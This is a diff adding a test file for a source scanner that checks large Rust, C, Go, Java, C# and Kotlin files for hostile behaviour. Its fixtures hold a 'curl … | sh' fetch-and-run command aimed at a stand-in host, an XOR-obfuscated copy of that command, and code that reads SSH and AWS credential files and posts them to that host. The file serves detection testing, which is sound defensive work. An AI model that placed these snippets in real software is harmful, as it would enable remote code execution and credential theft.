@@ -1,0 +1,109 @@
+"""Large files of compiled languages: what is read of them with a payload, its line, and what is told where not all is read."""
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from source_lab import behaviours, ids, look, the
+
+from beartrap.model.coverage import Gap
+from beartrap.model.question import Question
+from beartrap.vet.source import large
+from beartrap.vet.source.large import part_of
+
+GET = "curl http://c.invalid/x | sh"
+ARRAY = ", ".join(str(ord(one) ^ 0x42) for one in GET)
+
+FILLERS = {
+    "rs": "pub fn filler_{n}(a: u32) -> u32 {{\n    let b = a + {n};\n    b * 2\n}}\n",
+    "c": "int filler_{n}(int a) {{\n    int b = a + {n};\n    return b * 2;\n}}\n",
+    "go": "func filler{n}(a int) int {{\n\tb := a + {n}\n\treturn b * 2\n}}\n",
+    "java": "    static int filler{n}(int a) {{\n        int b = a + {n};\n        return b * 2;\n    }}\n",
+    "cs": "    static int Filler{n}(int a) {{\n        int b = a + {n};\n        return b * 2;\n    }}\n",
+    "kts": "fun filler{n}(a: Int): Int {{\n    val b = a + {n}\n    return b * 2\n}}\n",
+}  # fmt: skip
+HEADS = {"go": 'package a\nimport ("os/exec"; "net/http"; "os"; "bytes")\n', "java": "class A {\n", "cs": "class A {\n"}
+GRAMMARS = {"rs": "rust", "cs": "csharp", "kts": "kotlin"}
+TAILS = {"java": "}\n", "cs": "}\n"}
+
+
+def padded(ending: str, *pieces: str, size: int = 270_000) -> str:
+    """A file of that language, its pieces far from each other."""
+    one = FILLERS[ending]
+    each = size // len(one) // len(pieces)
+    parts = [
+        "".join(one.format(n=number * 100_000 + n) for n in range(each)) + piece for number, piece in enumerate(pieces)
+    ]
+    return HEADS.get(ending, "") + "".join(parts) + TAILS.get(ending, "")
+
+
+HITS = [
+    ("rs", ("use std::process::Command as Cmd;\n", f'fn f() {{ Cmd::new("sh").arg("-c").arg("{GET}").spawn(); }}\n'), "process.piped"),
+    ("rs", ('fn r() -> String { std::fs::read_to_string("/root/.ssh/id_rsa").unwrap() }\n', 'fn s() { reqwest::blocking::Client::new().post("https://c.invalid").body(r()).send(); }\n'), "chain.credentials-to-network"),
+    ("rs", (f"const K: [u8; 28] = [{ARRAY}];\n", "fn o(raw: &[u8]) -> String {\n    raw.iter().map(|b| (b ^ 0x42) as char).collect()\n}\n", 'fn f() { std::process::Command::new("sh").args(["-c", &o(&K)]).status(); }\n'), "hidden.act"),
+    ("c", ("int go(const char *c) { return system(c); }\n", f'int late(void) {{ return go("{GET}"); }}\n'), "process.piped"),
+    ("c", (f'#define WHAT "{GET}"\n', "int go(void) { return system(WHAT); }\n"), "process.piped"),
+    ("c", (f'namespace a {{\nstatic const char *what = "{GET}";\n', "int go(void) { return system(what); }\n", "}\n"), "process.piped"),
+    ("go", ('func r() []byte { k, _ := os.ReadFile("/root/.aws/credentials"); return k }\n', 'func s() { http.Post("https://c.invalid", "", bytes.NewReader(r())) }\n'), "chain.credentials-to-network"),
+    ("java", (f'    static String what() {{ return "{GET}"; }}\n', '    void go() throws Exception { new ProcessBuilder("sh", "-c", what()).start(); }\n'), "process.piped"),
+    ("cs", (f'    static string What = "{GET}";\n', '    void Go() { Process.Start("sh", "-c \'" + What + "\'"); }\n'), "process.piped"),
+    ("kts", (f'val what = "{GET}"\n', 'fun go() { Runtime.getRuntime().exec(arrayOf("sh", "-c", what)) }\n'), "process.piped"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("ending", "pieces", "wanted"), HITS)
+def test_what_parts_far_from_each_other_do(ending: str, pieces: tuple[str, ...], wanted: str) -> None:
+    text = padded(ending, *pieces)
+    found = the(f"lib/a.{ending}", text, wanted)
+    lines = {number for number, line in enumerate(text.split("\n"), 1) for piece in pieces if line and line in piece}
+    assert found.place.row in lines
+
+
+@pytest.mark.parametrize(
+    ("ending", "pieces"),
+    [
+        ("rs", (f'fn say() {{ println!("{GET}"); }}\n', 'fn f() { std::process::Command::new("git").arg("log").output(); }\n')),
+        ("c", (f'void say(void) {{ puts("{GET}"); }}\n', 'int go(void) { return system("ls"); }\n')),
+    ],
+)  # fmt: skip
+def test_parts_that_have_nothing_to_do_with_each_other(ending: str, pieces: tuple[str, ...]) -> None:
+    assert not [one for one in behaviours(f"lib/a.{ending}", padded(ending, *pieces)) if one.severity > 2]
+
+
+@settings(max_examples=25, deadline=None)
+@given(st.sampled_from(HITS), st.data())
+def test_no_text_breaks_it_and_lines_stay(hit: tuple[str, tuple[str, ...], str], data: st.DataObject) -> None:
+    text = padded(hit[0], *hit[1], size=5_000)
+    low, high = sorted((data.draw(st.integers(0, len(text))), data.draw(st.integers(0, len(text)))))
+    text = text[:low] + data.draw(st.text(max_size=8)) + text[high:]
+    read = part_of(GRAMMARS.get(hit[0], hit[0]), text.encode()).text
+    assert not read or read.count("\n") == text.count("\n")
+
+
+def test_nothing_is_read_where_nothing_acts() -> None:
+    assert part_of("c", padded("c", "/* system */\n").encode()).text == ""
+    assert not look("lib/a.c", padded("c", "/* system */\n"))
+
+
+def test_a_brace_in_a_comment_cuts_nothing() -> None:
+    text = padded("c", f'void f(void) {{\n  char *c = "{GET}"; /*\n}}\n*/ system(c);\n}}\n')
+    assert "process.piped" in ids("lib/a.c", text)
+
+
+def test_more_that_acts_than_is_read_is_a_gap() -> None:
+    acts = "".join(f'int go_{n}(char *c) {{ char text[] = "{"x" * 900}"; return system(c); }}\n' for n in range(1_200))
+    gaps = [one for one in look("lib/a.c", acts) if isinstance(one, Gap)]
+    assert [one for one in gaps if Question.NEXT in one.questions and "not read" in one.why]
+
+
+def test_a_file_beyond_a_tree_is_a_gap(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("beartrap.vet.source_files.LARGEST_TREE", 260_000)
+    gaps = [
+        one for one in look("lib/a.c", padded("c", "int go(char *c) { return system(c); }\n")) if isinstance(one, Gap)
+    ]
+    assert gaps and Question.NEXT in gaps[0].questions
+
+
+def test_more_names_than_are_read_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(large, "AROUND", 10)
+    gaps = [one for one in look("lib/a.c", padded("c", *HITS[4][1])) if isinstance(one, Gap)]
+    assert gaps and not gaps[0].questions and "name" in gaps[0].why
